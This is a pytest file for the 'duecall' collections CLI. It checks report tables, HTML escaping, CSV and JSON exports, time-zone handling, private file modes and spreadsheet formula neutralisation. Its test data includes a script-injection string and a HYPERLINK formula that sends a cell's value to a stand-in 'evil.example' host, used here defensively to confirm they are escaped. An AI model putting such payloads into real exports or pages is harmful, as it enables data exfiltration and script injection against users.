"""`duecall report` and `duecall export`: the numbers of a seeded store, HTML, CSV and JSON."""

from __future__ import annotations

import csv
import io
import json
import stat
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from sqlalchemy import select

from duecall.cli import cli
from store.clock import SystemClock
from store.db import Database
from store.models import (
    Attempt,
    AuditLog,
    CallbackRequest,
    ComplianceDecision,
    InboundMessage,
    Promise,
)
from store.models_dialer import CampaignRun
from store.models_ivr import IvrSession
from tests import factories
from tests.campaigns.test_exports import seed_store

NOW = datetime(2026, 11, 29, 15, 0, tzinfo=UTC)
EVIL = '<script>alert("x")</script>'
BUSINESS = f"{EVIL} [bold]Cards[/bold] & Co"


@pytest.fixture
def env(
    tmp_path: Path, db: Database, db_url: str, monkeypatch: pytest.MonkeyPatch
) -> dict[str, str]:
    # The CLI reads the real time; fix it at the seed's "now" (15:00 UTC on 2026-11-29).
    monkeypatch.setattr(SystemClock, "now", lambda self: NOW)
    config = tmp_path / "config.yaml"
    config.write_text(
        yaml.safe_dump({"logging": {"level": "WARNING"}, "business": {"name": BUSINESS}}),
        encoding="utf-8",
    )
    # Wide enough that no table cell wraps.
    return {"DUECALL_CONFIG": str(config), "DUECALL_DATABASE_URL": db_url, "COLUMNS": "200"}


def invoke(env: dict[str, str], *args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli, list(args), env=env, catch_exceptions=False)
    return result.exit_code, result.stdout, result.stderr


def seed_activity(db: Database) -> None:
    """What the report reads beyond the export seed: decisions, a hotline call, waiting work."""
    with db.session() as s:

        def decision(at: datetime, allowed: bool, rule: str) -> ComplianceDecision:
            return ComplianceDecision(
                at=at,
                context="dispatch",
                profile="us_reg_f",
                channel="voice",
                account_id="A1",
                customer_id="A1",
                number="+14155550123",
                allowed=allowed,
                rule=rule,
                reason=rule,
            )

        s.add_all(
            [
                decision(datetime(2026, 11, 29, 14, 0, tzinfo=UTC), True, "allowed"),
                decision(datetime(2026, 11, 29, 14, 30, tzinfo=UTC), True, "allowed"),
                decision(datetime(2026, 11, 29, 2, 0, tzinfo=UTC), False, "window"),
                decision(datetime(2026, 11, 28, 2, 0, tzinfo=UTC), False, "window"),
                IvrSession(
                    call_sid="CA" + "1" * 32,
                    direction="inbound",
                    state="menu",
                    step=4,
                    language="en-US",
                    account_id="A1",
                    verified=True,
                    last_twiml="<Response/>",
                    created_at=datetime(2026, 11, 29, 13, 0, tzinfo=UTC),
                    updated_at=datetime(2026, 11, 29, 13, 5, tzinfo=UTC),
                ),
                CallbackRequest(
                    account_id="A3",
                    number="+12125550199",
                    reason="agent",
                    language="en-US",
                    status="open",
                    created_at=datetime(2026, 11, 29, 13, 0, tzinfo=UTC),
                ),
                CallbackRequest(
                    account_id="A1",
                    number="+14155550123",
                    reason="agent",
                    language="en-US",
                    status="done",
                    created_at=datetime(2026, 11, 28, 13, 0, tzinfo=UTC),
                ),
                InboundMessage(
                    message_sid="SM" + "1" * 32,
                    number="+14155550123",
                    to_number="+15005550006",
                    body="can I pay next week?",
                    kind="message",
                    account_id="A1",
                    received_at=datetime(2026, 11, 29, 12, 0, tzinfo=UTC),
                ),
                InboundMessage(
                    message_sid="SM" + "2" * 32,
                    number="+12125550199",
                    to_number="+15005550006",
                    body="STOP",
                    kind="optout",
                    received_at=datetime(2026, 11, 29, 12, 0, tzinfo=UTC),
                    handled_at=datetime(2026, 11, 29, 12, 0, tzinfo=UTC),
                    handled_by="keyword",
                ),
                CampaignRun(
                    campaign=EVIL,
                    slot_key="manual 2026-11-29T14:45",
                    slot_at=datetime(2026, 11, 29, 14, 45, tzinfo=UTC),
                    trigger="manual",
                    status="cancelled",
                    created_at=datetime(2026, 11, 29, 14, 45, tzinfo=UTC),
                    created_by="cli",
                ),
            ]
        )


def table_rows(output: str) -> list[list[str]]:
    """The body rows of every rich table in ``output``, as lists of stripped cells."""
    return [
        [cell.strip() for cell in line.strip().strip("│").split("│")]
        for line in output.splitlines()
        if line.strip().startswith("│")
    ]


def test_report_prints_the_numbers_of_the_store_after_settling_promises(
    env: dict[str, str], db: Database
) -> None:
    seed_store(db)
    seed_activity(db)
    code, out, err = invoke(env, "report")
    assert code == 0, err
    rows = table_rows(out)
    # Summary: today and all time.
    assert ["calls and texts", "2", "3"] in rows
    assert ["right-party contacts on reminder calls", "1", "1"] in rows
    assert ["right-party contacts on the hotline (verified callers)", "1", "1"] in rows
    assert ["promises kept (of those resolved)", "50.0% (1 of 2)", "50.0% (1 of 2)"] in rows
    assert ["callback requests open", "1"] in rows
    assert ["texts waiting in the inbox (`duecall sms inbox`)", "1"] in rows
    # Attempts by channel and outcome.
    assert ["voice", "promise", "1", "1"] in rows
    assert ["voice", "(in flight)", "1", "1"] in rows
    assert ["sms", "failed", "0", "1"] in rows
    # Promises by status and currency: taken today, all time, paid.
    assert ["kept", "USD", "1", "600.00", "1", "600.00", "600.00"] in rows
    assert ["broken", "CNY", "0", "0.00", "1", "1,200.50", "0.00"] in rows
    assert ["open", "USD", "0", "0.00", "1", "250.00", "100.00"] in rows
    assert ["cancelled", "USD", "0", "0.00", "1", "50.00", "0.00"] in rows
    # Policy decisions by rule; suppressions by kind.
    assert ["allowed", "2", "0", "2", "0"] in rows
    assert ["window", "0", "1", "0", "2"] in rows
    assert ["dnc", "0", "1", "0"] in rows
    assert ["optout-sms", "1", "1", "1"] in rows
    # Runs working or launched today, with their contacts.
    assert ["mid-stage-voice", "2026-11-29T09:00 America/New_York", "active", "2", "1", "1"] in rows
    assert [EVIL, "manual 2026-11-29T14:45", "cancelled", "0", "0", "0"] in rows
    # Data and names are printed as they are, never read as rich markup.
    assert BUSINESS in out
    with db.session(readonly=True) as s:
        statuses = {pid: status for pid, status in s.execute(select(Promise.id, Promise.status))}
        assert statuses == {1: "cancelled", 2: "kept", 3: "broken", 4: "open"}
        audit = s.scalars(select(AuditLog.action).order_by(AuditLog.id)).all()
        assert audit == ["promise.kept", "promise.broken"]


def test_report_of_an_empty_store_says_none(env: dict[str, str]) -> None:
    code, out, err = invoke(env, "report")
    assert code == 0, err
    assert ["calls and texts", "0", "0"] in table_rows(out)
    assert ["promises kept (of those resolved)", "-", "-"] in table_rows(out)
    assert ["none", "", "", "", "", "", ""] in table_rows(out)  # the promises table


class _Page(HTMLParser):
    """Checks nesting as it parses and collects the text of every table cell and heading."""

    VOID = frozenset({"meta", "br", "hr", "img", "link", "col"})

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.stack: list[str] = []
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str | None]] = []
        self.cells: list[str] = []
        self.title = ""
        self._text: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs.extend(attrs)
        if tag not in self.VOID:
            self.stack.append(tag)
        if tag in ("td", "th", "title", "h1"):
            self._text = []

    def handle_endtag(self, tag: str) -> None:
        assert self.stack and self.stack[-1] == tag, f"</{tag}> closes {self.stack[-1:]}"
        self.stack.pop()
        if tag in ("td", "th", "h1") and self._text is not None:
            self.cells.append("".join(self._text))
        # The page's <title>, not an SVG chart's (a tooltip's) in the body.
        if tag == "title" and self._text is not None and "head" in self.stack:
            self.title = "".join(self._text)
        if tag in ("td", "th", "title", "h1"):
            self._text = None

    def handle_data(self, data: str) -> None:
        if self._text is not None:
            self._text.append(data)


def test_report_html_is_one_well_formed_self_contained_escaped_page(
    env: dict[str, str], db: Database, tmp_path: Path
) -> None:
    seed_store(db)
    seed_activity(db)
    target = tmp_path / "out" / "report.html"
    target.parent.mkdir()
    code, out, err = invoke(env, "report", "--html", str(target))
    assert code == 0, err
    assert f"report written to {target}" in out
    text = target.read_text(encoding="utf-8")
    assert text.startswith("<!DOCTYPE html>")
    page = _Page()
    page.feed(text)
    page.close()
    assert page.stack == []  # every element closed
    assert "script" not in page.tags  # the names with <script> are text, not elements
    assert EVIL not in text  # ... because they were escaped
    assert "&lt;script&gt;" in text
    assert not [a for a in page.attrs if a[0] in ("src", "href")]  # no external asset
    assert page.title == f"duecall report: {BUSINESS}"
    assert EVIL in page.cells  # the run's campaign, back as text
    for value in ("50.0% (1 of 2)", "1,200.50", "600.00", "(in flight)", "window", "optout-sms"):
        assert value in page.cells
    assert list(tmp_path.joinpath("out").iterdir()) == [target]  # no partial file left


def test_export_promises_csv_parses_back_with_exact_values_after_settling(
    env: dict[str, str], db: Database
) -> None:
    seed_store(db)
    code, out, err = invoke(env, "export", "promises")
    assert code == 0, err
    found = list(csv.DictReader(io.StringIO(out)))
    assert [r["id"] for r in found] == ["1", "2", "3", "4"]
    assert found[1] == {
        "id": "2",
        "account_id": "A1",
        "promised_date": "2026-12-05",
        "amount": "600.00",
        "currency": "USD",
        "status": "kept",
        "source": "ivr",
        "created_at": "2026-11-29T10:00:00+00:00",
        "paid_amount": "600.00",
        "resolved_at": "2026-11-29T15:00:00+00:00",
    }
    assert (found[2]["amount"], found[2]["status"], found[2]["resolved_at"]) == (
        "1200.50",
        "broken",
        "2026-11-29T15:00:00+00:00",
    )
    assert (found[3]["status"], found[3]["paid_amount"], found[3]["resolved_at"]) == (
        "open",
        "100.00",
        "",
    )


def test_export_attempts_json_parses_back_and_since_filters(
    env: dict[str, str], db: Database
) -> None:
    seed_store(db)
    code, out, err = invoke(env, "export", "attempts", "--format", "json")
    assert code == 0, err
    found = json.loads(out)
    assert [a["id"] for a in found] == [1, 2, 3]
    assert found[0]["number"] == "+14155550123"
    assert found[0]["connected"] is True
    assert found[0]["duration_seconds"] == 95
    assert found[0]["campaign"] == "mid-stage-voice"
    assert found[1]["error_code"] == 30003
    assert found[1]["campaign"] is None
    code, out, _ = invoke(env, "export", "attempts", "--format", "json", "--since", "2026-11-29")
    assert [a["id"] for a in json.loads(out)] == [1, 3]
    code, out, _ = invoke(env, "export", "optouts", "--since", "2026-11-29")
    assert [r["kind"] for r in csv.DictReader(io.StringIO(out))] == ["optout-sms"]


def test_export_to_a_file_and_of_empty_tables(env: dict[str, str], tmp_path: Path) -> None:
    code, out, err = invoke(env, "export", "optouts", "--format", "json")
    assert (code, json.loads(out)) == (0, []), err
    code, out, err = invoke(env, "export", "attempts")
    assert code == 0, err
    assert list(csv.reader(io.StringIO(out))) == [
        [
            "id",
            "account_id",
            "channel",
            "purpose",
            "number",
            "status",
            "outcome",
            "answered_by",
            "connected",
            "error_code",
            "created_at",
            "ended_at",
            "duration_seconds",
            "campaign",
            "direction",
            "conversation",
        ]
    ]
    target = tmp_path / "promises.json"
    code, out, err = invoke(env, "export", "promises", "--format", "json", "--output", str(target))
    assert (code, out) == (0, ""), err
    assert json.loads(target.read_text(encoding="utf-8")) == []


def test_a_bad_since_is_a_usage_error(env: dict[str, str]) -> None:
    code, out, err = invoke(env, "export", "promises", "--since", "29/11/2026")
    assert code == 2
    assert "'29/11/2026' is not a date written YYYY-MM-DD" in err
    assert out == ""


def test_payments_import_settles_the_promises(
    env: dict[str, str], db: Database, tmp_path: Path
) -> None:
    seed_store(db)
    payments = tmp_path / "payments.csv"
    payments.write_text(
        "payment_id,account_id,amount,paid_at\nPAY4,A3,150.00,2026-11-29\n", encoding="utf-8"
    )
    code, out, err = invoke(env, "payments", "import", str(payments))
    assert code == 0, err
    assert "promises: 2 kept, 0 partial, 1 broken" in out
    code, out, err = invoke(env, "payments", "import", str(payments))
    assert code == 0, err
    assert "promises: 0 kept, 0 partial, 0 broken" in out
    with db.session(readonly=True) as s:
        query = select(Promise.account_id, Promise.status).where(Promise.id > 1)
        statuses = {account: status for account, status in s.execute(query)}
        assert statuses == {"A1": "kept", "A2": "broken", "A3": "kept"}


def header_rows(output: str) -> list[list[str]]:
    """The header row of every rich table in ``output``, as lists of stripped cells."""
    return [
        [cell.strip() for cell in line.strip().strip("┃").split("┃")]
        for line in output.splitlines()
        if line.strip().startswith("┃")
    ]


def _attempt(created_at: datetime, outcome: str) -> Attempt:
    return Attempt(
        account_id="A1",
        customer_id="A1",
        channel="voice",
        purpose="reminder",
        number="+12125550123",
        status="completed",
        outcome=outcome,
        connected=outcome == "promise",
        created_at=created_at,
    )


def seed_around_midnight(db: Database) -> None:
    """Three calls around 1 December 2026: one late on the 1st in New York, which is already the
    2nd in UTC; one late on 30 November in New York, already the 1st in UTC; one in the middle."""
    with db.session() as s:
        s.add(factories.account("A1"))
        s.add_all(
            [
                _attempt(datetime(2026, 12, 2, 4, 30, tzinfo=UTC), "promise"),  # 23:30 NY, 1st
                _attempt(datetime(2026, 12, 1, 4, 30, tzinfo=UTC), "busy"),  # 23:30 NY, 30th
                _attempt(datetime(2026, 12, 1, 17, 0, tzinfo=UTC), "no_answer"),  # 12:00 NY, 1st
            ]
        )


def _later(monkeypatch: pytest.MonkeyPatch, now: datetime) -> None:
    monkeypatch.setattr(SystemClock, "now", lambda self: now)


def test_report_day_and_zone_select_the_rows_of_that_local_day(
    env: dict[str, str], db: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    seed_around_midnight(db)
    _later(monkeypatch, datetime(2026, 12, 7, 21, 0, tzinfo=UTC))
    code, out, err = invoke(env, "report", "--day", "2026-12-01", "--tz", "America/New_York")
    assert code == 0, err
    assert "day: 2026-12-01 (America/New_York); as of 2026-12-07 21:00 UTC" in out
    assert ["", "2026-12-01", "all time"] in header_rows(out)  # not "today": the 7th is
    rows = table_rows(out)
    assert ["calls and texts", "2", "3"] in rows
    assert ["voice", "promise", "1", "1"] in rows  # 23:30 in New York counts for the 1st
    assert ["voice", "no_answer", "1", "1"] in rows
    assert ["voice", "busy", "0", "1"] in rows  # the 30th in New York, though the 1st in UTC

    code, out, err = invoke(env, "report", "--day", "2026-12-01", "--tz", "UTC")
    assert code == 0, err
    assert "day: 2026-12-01 (UTC)" in out
    rows = table_rows(out)
    assert ["voice", "promise", "0", "1"] in rows
    assert ["voice", "busy", "1", "1"] in rows


def test_report_defaults_to_today_in_the_first_campaigns_zone(
    env: dict[str, str], db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    seed_around_midnight(db)
    # 05:00 UTC on the 2nd is still 00:00 on the 2nd in New York; 04:59 is 23:59 on the 1st.
    _later(monkeypatch, datetime(2026, 12, 2, 4, 59, tzinfo=UTC))
    config = tmp_path / "campaigns.yaml"
    campaign = {
        "name": "ny-voice",
        "channel": "voice",
        "schedule": {"cron": "0 9 * * mon-fri", "timezone": "America/New_York"},
    }
    config.write_text(
        yaml.safe_dump({"logging": {"level": "WARNING"}, "campaigns": [campaign]}),
        encoding="utf-8",
    )
    code, out, err = invoke({**env, "DUECALL_CONFIG": str(config)}, "report")
    assert code == 0, err
    assert "day: 2026-12-01 (America/New_York)" in out
    assert ["", "today", "all time"] in header_rows(out)
    rows = table_rows(out)
    assert ["calls and texts", "2", "3"] in rows
    # Without campaigns the day is UTC's: there the 2nd has begun, and counts one call so far.
    code, out, err = invoke(env, "report")
    assert code == 0, err
    assert "day: 2026-12-02 (UTC)" in out
    assert ["calls and texts", "1", "3"] in table_rows(out)


def test_report_refuses_an_unknown_zone_or_a_bad_day(env: dict[str, str]) -> None:
    code, out, err = invoke(env, "report", "--tz", "Mars/Olympus_Mons")
    assert (code, out) == (2, "")
    assert "'Mars/Olympus_Mons' is not an IANA time zone" in err
    code, _, err = invoke(env, "report", "--day", "1/12/2026")
    assert code == 2
    assert "'1/12/2026' is not a date written YYYY-MM-DD" in err


@pytest.mark.parametrize("where", ["/proc/x/report.html", "missing-folder/report.html"])
def test_report_html_to_an_unwritable_path_is_one_line_and_exit_2(
    env: dict[str, str], tmp_path: Path, where: str
) -> None:
    target = Path(where) if where.startswith("/") else tmp_path / where
    code, out, err = invoke(env, "report", "--html", str(target))
    assert code == 2
    assert err.splitlines() == [f"cannot write {target}: No such file or directory"]
    assert out == ""  # the file is tried first: no report printed, then a failure
    assert not target.parent.exists() or list(target.parent.iterdir()) == []


def test_report_html_has_no_literal_backtick_and_shows_commands_as_code(
    env: dict[str, str], tmp_path: Path
) -> None:
    target = tmp_path / "report.html"
    code, _, err = invoke(env, "report", "--html", str(target))
    assert code == 0, err
    text = target.read_text(encoding="utf-8")
    assert "`" not in text
    assert "texts waiting in the inbox (<code>duecall sms inbox</code>)" in text
    page = _Page()
    page.feed(text)
    page.close()
    assert page.stack == []
    assert "texts waiting in the inbox (duecall sms inbox)" in page.cells


def test_export_to_an_unwritable_path_is_one_line_and_exit_2(
    env: dict[str, str], tmp_path: Path
) -> None:
    target = tmp_path / "nowhere" / "promises.csv"
    code, out, err = invoke(env, "export", "promises", "--output", str(target))
    assert (code, out) == (2, "")
    assert err.splitlines() == [f"cannot write {target}: No such file or directory"]


FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"fix")'


@pytest.mark.usefixtures("loose_umask")
def test_export_files_are_private_and_csv_cells_never_run_as_formulas(
    env: dict[str, str], db: Database, tmp_path: Path
) -> None:
    seed_store(db)
    code, _, err = invoke(
        env, "suppress", "add", "--number", "+14155550123", "--kind", "dnc", "--reason", FORMULA,
        "--by", "@ops",
    )  # fmt: skip
    assert code == 0, err
    target = tmp_path / "optouts.csv"
    code, out, err = invoke(env, "export", "optouts", "--output", str(target))
    assert (code, out) == (0, ""), err
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    with target.open(encoding="utf-8", newline="") as handle:
        last = list(csv.DictReader(handle))[-1]
    assert last["reason"] == "'" + FORMULA
    assert last["created_by"] == "'@ops"
    assert last["number"] == "+14155550123"  # a full E.164 number is data, kept as it is
    # JSON carries the text as it is: nothing there is evaluated.
    code, out, err = invoke(env, "export", "optouts", "--format", "json")
    assert json.loads(out)[-1]["reason"] == FORMULA
    # A file replaced by a new export is private too.
    target.chmod(0o644)
    assert invoke(env, "export", "attempts", "--output", str(target))[0] == 0
    assert stat.S_IMODE(target.stat().st_mode) == 0o600


@pytest.mark.usefixtures("loose_umask")
def test_the_html_report_is_private(env: dict[str, str], tmp_path: Path) -> None:
    target = tmp_path / "report.html"
    code, _, err = invoke(env, "report", "--html", str(target))
    assert code == 0, err
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
